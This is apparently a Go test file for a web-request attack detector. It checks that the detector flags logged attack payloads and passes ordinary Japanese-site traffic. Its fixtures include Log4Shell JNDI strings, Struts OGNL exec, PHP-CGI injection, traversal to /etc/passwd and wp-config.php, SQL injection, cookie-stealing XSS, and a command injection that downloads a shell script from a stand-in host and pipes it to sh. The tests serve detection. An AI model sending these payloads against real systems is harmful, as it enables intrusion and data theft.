package attack

import (
	"slices"
	"strings"
	"sync"
	"testing"
)

var (
	detOnce sync.Once
	det     *Detector
	detErr  error
)

func detector(t testing.TB) *Detector {
	t.Helper()
	detOnce.Do(func() { det, detErr = NewDetector(1) })
	if detErr != nil {
		t.Fatal(detErr)
	}
	return det
}

const chromeUA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"

// attacks are the payloads of real incidents, as access logs record them.
var attacks = []struct {
	name string
	r    Request
	want Category
}{
	{"Log4Shell in User-Agent (CVE-2021-44228)", Request{Method: "GET", URI: "/", UserAgent: "${jndi:ldap://198.51.100.7:1389/Basic/Command/Base64/d2dldCBodHRw}"}, Java},
	{"Log4Shell in the query", Request{Method: "GET", URI: "/?x=${jndi:ldap://198.51.100.7/a}", UserAgent: chromeUA}, Java},
	{"Log4Shell obfuscated, URL-encoded", Request{Method: "GET", URI: "/search?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", UserAgent: chromeUA}, Java},
	{"Struts S2-057 OGNL in the namespace", Request{Method: "GET", URI: "/struts2-showcase/%24%7B%28%23_memberAccess%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/actionChain1.action", UserAgent: chromeUA}, Java},
	{"PHP-CGI argument injection CVE-2024-4577", Request{Method: "POST", URI: "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", UserAgent: chromeUA}, PHP},
	{"WordPress plugin path traversal", Request{Method: "GET", URI: "/wp-content/plugins/wp-file-manager/download.php?file=../../../../wp-config.php", UserAgent: chromeUA}, Traversal},
	{"Citrix ADC CVE-2019-19781 traversal", Request{Method: "GET", URI: "/vpn/../vpns/cfg/smb.conf", UserAgent: chromeUA}, Traversal},
	{"/etc/passwd in a parameter", Request{Method: "GET", URI: "/download?file=/etc/passwd", UserAgent: chromeUA}, Traversal},
	{"classic SQL injection", Request{Method: "GET", URI: "/item.php?id=1%27%20OR%20%271%27%3D%271", UserAgent: chromeUA}, SQLi},
	{"UNION SELECT", Request{Method: "GET", URI: "/news.php?id=-1+UNION+SELECT+username,password+FROM+users--", UserAgent: chromeUA}, SQLi},
	{"time-based blind SQLi", Request{Method: "GET", URI: "/product?id=1%20AND%20SLEEP(5)", UserAgent: chromeUA}, SQLi},
	{"reflected XSS", Request{Method: "GET", URI: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", UserAgent: chromeUA}, XSS},
	{"XSS in an attribute", Request{Method: "GET", URI: "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", UserAgent: chromeUA}, XSS},
	{"OS command injection", Request{Method: "GET", URI: "/cgi-bin/ping.cgi?ip=127.0.0.1;cat%20/etc/passwd", UserAgent: chromeUA}, OSCommand},
	{"command injection with a pipe", Request{Method: "GET", URI: "/diag?host=127.0.0.1%7Cwget%20http://198.51.100.7/bins.sh%20-O-%7Csh", UserAgent: chromeUA}, OSCommand},
	{"double-encoded traversal", Request{Method: "GET", URI: "/static/%252e%252e/%252e%252e/%252e%252e/etc/passwd", UserAgent: chromeUA}, Traversal},
	{"sqlmap", Request{Method: "GET", URI: "/index.php?id=1", UserAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)"}, Scanner},
	{"Nikto", Request{Method: "GET", URI: "/", UserAgent: "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"}, Scanner},
}

// TestAttacksFound: every real attack string is found in its category
// and is never passed by the prefilter.
func TestAttacksFound(t *testing.T) {
	d := detector(t)
	for _, a := range attacks {
		if d.benign(a.r) {
			t.Errorf("%s: passed by the prefilter", a.name)
		}
		m := d.Inspect(a.r)
		if !slices.Contains(m.Categories, a.want) {
			t.Errorf("%s: categories %v rules %v, want %s", a.name, m.Categories, m.Rules, a.want)
		}
	}
}

// benignRequests is ordinary traffic of a Japanese corporate site.
var benignRequests = []Request{
	{Method: "GET", URI: "/", UserAgent: chromeUA},
	{Method: "GET", URI: "/index.html", UserAgent: chromeUA, Referer: "https://www.google.com/"},
	{Method: "GET", URI: "/assets/css/site.min.css?v=20261101", UserAgent: chromeUA},
	{Method: "GET", URI: "/img/logo.png", UserAgent: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1"},
	{Method: "GET", URI: "/search?q=%E6%9D%B1%E4%BA%AC%E3%82%BF%E3%83%AF%E3%83%BC", UserAgent: chromeUA},
	{Method: "GET", URI: "/search?q=%E6%A0%AA%E5%BC%8F%E4%BC%9A%E7%A4%BE+%E6%8E%A1%E7%94%A8&page=2", UserAgent: chromeUA},
	{Method: "GET", URI: "/search?q=tokyo+tower+hours&lang=en", UserAgent: chromeUA},
	{Method: "GET", URI: "/products/list?category=bearing&sort=price_asc&page=3&per_page=50", UserAgent: chromeUA},
	{Method: "GET", URI: "/news/2026/11/press-release.html?utm_source=newsletter&utm_medium=email&utm_campaign=2026_autumn_campaign_jp&utm_content=header_banner_variant_b", UserAgent: chromeUA},
	{Method: "POST", URI: "/contact/submit", UserAgent: chromeUA, Referer: "https://www.minato-seiki.example.jp/contact/"},
	{Method: "GET", URI: "/robots.txt", UserAgent: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
	{Method: "GET", URI: "/sitemap.xml", UserAgent: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"},
	{Method: "GET", URI: "/%E4%BC%9A%E7%A4%BE%E6%A1%88%E5%86%85/%E6%B2%BF%E9%9D%A9.html", UserAgent: chromeUA},
	{Method: "HEAD", URI: "/", UserAgent: "curl/8.4.0"},
	{Method: "GET", URI: "/api/v1/items?ids=101,102,103&fields=name,price", UserAgent: chromeUA},
	{Method: "GET", URI: "/login?next=%2Fmypage%2Forders", UserAgent: chromeUA},
	{Method: "GET", URI: "/recruit/entry?job=engineer&location=%E5%A4%A7%E9%98%AA&email=taro.yamada%40example.jp", UserAgent: chromeUA},
	{Method: "GET", URI: "/favicon.ico", UserAgent: chromeUA},
	{Method: "GET", URI: "/wp-content/themes/corp/js/main.js?ver=6.4.3", UserAgent: chromeUA},
	{Method: "GET", URI: "/search?q=" + strings.Repeat("%E6%A4%9C%E7%B4%A2", 40), UserAgent: chromeUA},
}

// TestBenignRaisesNothing: ordinary traffic, Japanese search terms,
// URL-encoded UTF-8 and long query strings raise no sign at paranoia 1.
func TestBenignRaisesNothing(t *testing.T) {
	d := detector(t)
	fp := 0
	for _, r := range benignRequests {
		if m := d.full(r); len(m.Categories) > 0 {
			fp++
			t.Errorf("false positive: %s %s (UA %q): %v %v", r.Method, r.URI, r.UserAgent, m.Categories, m.Rules)
		}
	}
	t.Logf("benign corpus: %d requests, %d false positives at paranoia level 1", len(benignRequests), fp)
}

// TestPrefilterSound: whatever the prefilter passes, the full rule set
// finds nothing in either.
func TestPrefilterSound(t *testing.T) {
	d := detector(t)
	passed := 0
	for _, r := range benignRequests {
		if d.benign(r) {
			passed++
			if m := d.full(r); len(m.Rules) > 0 {
				t.Errorf("prefilter passed %s which fires %v", r.URI, m.Rules)
			}
		}
	}
	if passed < len(benignRequests)/2 {
		t.Errorf("the prefilter passes only %d of %d ordinary requests", passed, len(benignRequests))
	}
}
